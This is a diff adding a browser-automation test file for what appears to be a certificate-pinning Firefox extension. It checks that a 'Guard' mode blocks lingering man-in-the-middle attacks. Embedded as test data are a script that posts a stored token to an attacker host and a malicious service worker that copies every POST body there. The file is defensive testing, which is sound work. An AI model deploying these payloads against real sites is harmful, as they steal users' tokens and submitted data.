@@ -1,0 +1,159 @@
+// Attackers who need not stand on the house's own connection: what they left in the browser, or lead to another one.
+import { createServer, type AddressInfo } from "node:net";
+import { once } from "node:events";
+import type { Page } from "playwright";
+import { afterEach, beforeAll, expect, it } from "vitest";
+import { build } from "../../scripts/build";
+import { attack, NAIVE, SECRET, type Loot } from "../lab/attacker";
+import { startFirefox, type FirefoxSession } from "../lab/firefox-session";
+import { startLab, UNRELATED, type House, type Lab } from "../lab/lab";
+import { until } from "../lab/until";
+import { pin } from "./user";
+
+let lab: Lab;
+let firefox: FirefoxSession;
+
+beforeAll(async () => {
+  await build();
+});
+afterEach(async () => {
+  await firefox.close();
+  await lab.close();
+});
+
+async function start(options: Parameters<typeof startLab>[0] = {}): Promise<{ house: House; page: Page }> {
+  lab = await startLab(options);
+  // Certificates as good as any to Firefox: before the pin nothing speaks against them.
+  firefox = await startFirefox(lab, { prefs: { "security.pki.certificate_transparency.mode": 0 } });
+  return { house: await lab.house(lab.publicAuthority), page: await firefox.context.newPage() };
+}
+
+async function guard(house: House, isCleared = false): Promise<void> {
+  await pin(firefox, house);
+  const popup = await firefox.extensionPage(`popup.html?address=${house.host}`);
+  await popup.getByText("This is your house’s certificate").waitFor();
+  await popup.getByRole("switch", { name: "Guard" }).check();
+  if (isCleared) {
+    await popup.getByRole("button", { name: "Clear", exact: true }).click();
+    await popup.getByText("Cleared.", { exact: true }).waitFor();
+  }
+  await popup.close();
+}
+
+/** He is gone from the house's own connections; what he has left stays. */
+function leave(house: House): void {
+  house.attacker = undefined;
+  house.dropConnections();
+}
+
+const post = (page: Page): Promise<unknown> =>
+  page.evaluate(
+    `fetch('/auth/token', { method: 'POST', body: '${SECRET}' }).then((answer) => answer.status, () => 'stopped')`,
+  );
+
+const WAYS: [way: string, isGuarded: boolean][] = [
+  ["gives it to him where the house is only watched", false],
+  ["gives him nothing under Guard", true],
+];
+
+it.each(WAYS)("another host of his whose connection is shared: %s", async (_, isGuarded) => {
+  const { house, page } = await start({ isRealPort: true });
+  if (isGuarded) await guard(house);
+  else await pin(firefox, house);
+  await page.goto(house.url);
+  await firefox.buttonShows("Latchkey: verified");
+  // His certificate names the house beside his own host; the house's connections he leaves alone.
+  const loot = await attack(lab, house, NAIVE, { authority: lab.publicAuthority, names: [UNRELATED], http2: true });
+  leave(house);
+  await page.evaluate(`new Promise((done) => {
+    const image = new Image();
+    image.onload = image.onerror = done;
+    image.src = 'https://${UNRELATED}/image.svg';
+  })`);
+  await post(page);
+  expect(loot.secrets() > 0).toBe(!isGuarded);
+});
+
+it.each(WAYS)("a port of his that the browser once was told of: %s", async (_, isGuarded) => {
+  const { house, page } = await start();
+  const port = createServer();
+  port.listen(0, "127.0.0.1");
+  await once(port, "listening");
+  const service = `h2=":${String((port.address() as AddressInfo).port)}"; ma=86400`;
+  const loot = await attack(lab, house, NAIVE, {
+    authority: lab.publicAuthority,
+    http2: true,
+    headers: { "Alt-Svc": service },
+  });
+  const { attacker } = house;
+  port.on("connection", (socket) => attacker?.onConnection(socket, () => undefined));
+  await page.goto(house.url); // before anybody pinned
+  leave(house);
+  await page.goto("about:blank"); // a look from the page's tab would be led there, too
+  if (isGuarded) await guard(house);
+  await page.goto(house.url).catch(() => undefined); // may give way to the page that says why
+  const before = loot.requests();
+  await until(
+    async () => (await page.goto(house.url).catch(() => undefined), loot.requests()),
+    (requests) => requests > before || isGuarded,
+  );
+  if (page.url().startsWith(house.url)) await post(page);
+  expect(loot.secrets() > 0).toBe(!isGuarded);
+  port.close();
+});
+
+const HIS_PAGE = "his script was here";
+it.each(WAYS)("a script of his that the browser has kept: %s", async (_, isGuarded) => {
+  const { house, page } = await start();
+  const steal = `document.title = '${HIS_PAGE}'; fetch('https://${UNRELATED}/x', { method: 'POST', mode: 'no-cors', body: localStorage.token });`;
+  const loot = await attack(lab, house, NAIVE, {
+    authority: lab.publicAuthority,
+    names: [UNRELATED],
+    scripts: { "/static/app.js": steal },
+    headers: { "Cache-Control": "public, max-age=86400" },
+  });
+  await page.goto(`${house.url}cached`); // before anybody pinned, and before there was anything to steal
+  await page.evaluate(`localStorage.token = '${SECRET}'`);
+  leave(house);
+  if (isGuarded) await guard(house);
+  await page.goto(`${house.url}cached`).catch(() => undefined);
+  if (!isGuarded) await until(loot.secrets, (secrets) => secrets > 0);
+  else {
+    await until(
+      () => page.url(),
+      (url) => !url.startsWith(house.url) || url.endsWith("cached"),
+    );
+    expect(await page.title()).not.toBe(HIS_PAGE);
+    expect(loot.secrets()).toBe(0);
+  }
+});
+
+const HIS_WORKER = `
+addEventListener('install', (event) => event.waitUntil(skipWaiting()));
+addEventListener('activate', (event) => event.waitUntil(clients.claim()));
+addEventListener('fetch', (event) => {
+  if (event.request.method === 'POST') event.respondWith((async () => {
+    const copy = await event.request.clone().text();
+    await fetch('https://${UNRELATED}/x', { method: 'POST', mode: 'no-cors', body: copy });
+    return fetch(event.request);
+  })());
+});`;
+const CLEARED: [way: string, isCleared: boolean][] = [
+  ["sees what its pages send until it is cleared", false],
+  ["is gone, and sees nothing, where what Guard's switch offers is taken", true],
+];
+it.each(CLEARED)("a worker of his from before the pin %s", async (_, isCleared) => {
+  const { house, page } = await start();
+  const loot: Loot = await attack(lab, house, NAIVE, {
+    ...{ authority: lab.publicAuthority, names: [UNRELATED] },
+    scripts: { "/service_worker.js": HIS_WORKER },
+  });
+  await page.goto(`${house.url}with-worker`);
+  await page.evaluate("navigator.serviceWorker.ready.then(() => undefined)");
+  leave(house);
+  await guard(house, isCleared);
+  await page.goto(house.url);
+  await firefox.buttonShows("Latchkey: verified");
+  await post(page);
+  expect(loot.secrets() > 0).toBe(!isCleared);
+});
